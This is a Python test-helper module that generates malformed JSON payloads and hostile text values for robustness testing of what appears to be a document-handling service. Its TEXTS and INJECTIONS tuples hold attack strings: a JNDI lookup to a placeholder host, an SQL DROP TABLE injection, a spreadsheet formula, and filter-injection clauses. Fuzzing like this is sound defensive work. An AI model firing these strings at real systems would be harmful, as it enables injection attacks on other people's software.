"""Hostile inputs: payloads with one field deleted, replaced, nested or retyped, and texts that break programs."""

import json
from collections.abc import Iterator
from typing import Any

import msgspec

_NOTHING = object()

# What may stand where anything else is expected, as JSON. Amounts beyond every limit, broken texts, other types.
VALUES = (
    "null",
    "true",
    "0",
    "-1",
    "0.1",
    "1e400",
    "-1e-400",
    "9223372036854775808",
    "NaN",
    "Infinity",
    '""',
    '" "',
    '"text"',
    '"12,50"',
    '"1 234"',
    '"\\u0000"',
    '"\\ud800"',
    '"0000-00-00"',
    '"9999-12-31T23:59:59+14:00"',
    '"0001-01-01T00:00:00-14:00"',
    "[]",
    "{}",
    "[[]]",
    '{"":{}}',
    "[null]",
    "9" * 5000,
    '"' + "a" * 5000 + '"',
)
BYTES = (b"", b"null", b"[]", b'"x"', b"0", b"{", b"<html></html>", b"\xff\xfe", b"\xef\xbb\xbf{}", b"[" * 100_000)

# Texts that people, and those who mean harm, put into names.
TEXTS = (
    "",
    " ",
    'Jan "Ostrý" O\'Neil',
    "a" * 300,
    "ž" * 5000,
    "👩‍👩‍👧‍👦🏳️‍🌈",
    "řádek\r\ndruhý\ttřetí",
    "\x01\x02\x1f\x7f",
    "]]><!--&lt;",
    "\\",
    "${jndi:ldap://x.example}",
    "'; DROP TABLE documents; --",
    "\u202eobrácený\u202c",
    "\ufeff\ufffe\uffff",
    "e\u0301" * 50,
    "a\x00b",
    "\ud800",
    "9" * 40,
    "=1+1",
)

# Values to look by that must match nothing, whatever a vendor's filter makes of quotes, brackets and operators.
INJECTIONS = (
    "'",
    '"',
    "\\",
    "\\'",
    "'\"",
    "' or '1'='1",
    '" or "1"="1',
    "x' or kod is not null or kod eq 'x",
    "') or (id gt 0",
    "(",
    ")",
    "[]",
    "*",
    "%",
    "_",
    "a,b",
    "a;b",
    "a&b=c",
    "a/b?c#d",
    "../",
    "{}",
    "${x}",
    "line\nbreak",
    "\x00",
    "\ud800",
    "ž" * 300,
)


def spoilt(payload: bytes) -> Iterator[tuple[str, bytes]]:
    """The payload with one thing wrong at a time: what was done, and the bytes."""
    yield from ((f"bytes {data[:20]!r}", data) for data in BYTES)
    yield from ((f"cut at {place}", payload[:place]) for place in range(1, len(payload), max(1, len(payload) // 7)))
    try:
        content = json.loads(payload, parse_float=_Spelt)
    except (ValueError, RecursionError):
        return
    for path in _paths(content):
        name = ".".join(map(str, path))
        yield f"without {name}", _spelt(content, path, _NOTHING).encode()
        around, found = _spelt(content, path, _Spelt(_GAP)), _spelt(_at(content, path), (), None)
        nested = (f"[{found}]", f'{{"value":{found}}}', f'"{found}"' if '"' not in found else f"[[{found}]]")
        for value in (*VALUES, *nested):
            yield f"{name} = {value[:40]}", around.replace(_GAP, value).encode()


_GAP = "\x00gap\x00"


class _Spelt(str):
    """JSON as it is to stand there: a decimal as the source spelt it, so that nothing is changed by reading it."""

    __slots__ = ()


def _paths(value: Any, path: tuple[str | int, ...] = ()) -> Iterator[tuple[str | int, ...]]:
    """Every place in the payload; of a list the first item stands for all."""
    if path:
        yield path
    inner: Any = value.items() if isinstance(value, dict) else enumerate(value[:1]) if isinstance(value, list) else ()
    for name, part in inner:
        yield from _paths(part, (*path, name))


def _at(value: Any, path: tuple[str | int, ...]) -> Any:
    for name in path:
        value = value[name]
    return value


def _spelt(value: Any, path: tuple[str | int, ...] | None, new: Any) -> str:
    """The JSON of a value, with what stands at the end of the path replaced, or left out."""
    if path == () and new is not None:
        return str(new)
    if isinstance(value, _Spelt):
        return str(value)
    if isinstance(value, dict | list):
        pairs = value.items() if isinstance(value, dict) else enumerate(value)
        kept = [(name, part) for name, part in pairs if not (path == (name,) and new is _NOTHING)]
        inner = [(name, _spelt(part, path[1:] if path and path[0] == name else None, new)) for name, part in kept]
        if isinstance(value, list):
            return "[" + ",".join(part for _, part in inner) + "]"
        return "{" + ",".join(f"{json.dumps(name)}:{part}" for name, part in inner) + "}"
    return json.dumps(value)


def retold(value: Any) -> Iterator[tuple[str, Any]]:
    """A document with one of its texts replaced at a time by each hostile text: the field, and the document."""
    for path in _texts(value):
        for text in TEXTS:
            yield f"{'.'.join(map(str, path))} = {text[:30]!r}", _replaced(value, path, text)


# Codes of a fixed list, and currencies of amounts: no shop's text ever gets there.
_FIXED = frozenset({"currency", "kind", "basis", "category", "country", "seller_country", "home", "source"})


def _texts(value: Any, path: tuple[str | int, ...] = ()) -> Iterator[tuple[str | int, ...]]:
    if isinstance(value, str):
        if path[-1] not in _FIXED:
            yield path
    elif isinstance(value, msgspec.Struct):
        for name in value.__struct_fields__:
            yield from _texts(getattr(value, name), (*path, name))
    elif isinstance(value, tuple) and value:
        yield from _texts(value[0], (*path, 0))


def _replaced(value: Any, path: tuple[str | int, ...], new: str) -> Any:
    if not path:
        return new
    first, rest = path[0], path[1:]
    if isinstance(first, int):
        return (*value[:first], _replaced(value[first], rest, new), *value[first + 1 :])
    return msgspec.structs.replace(value, **{first: _replaced(getattr(value, first), rest, new)})
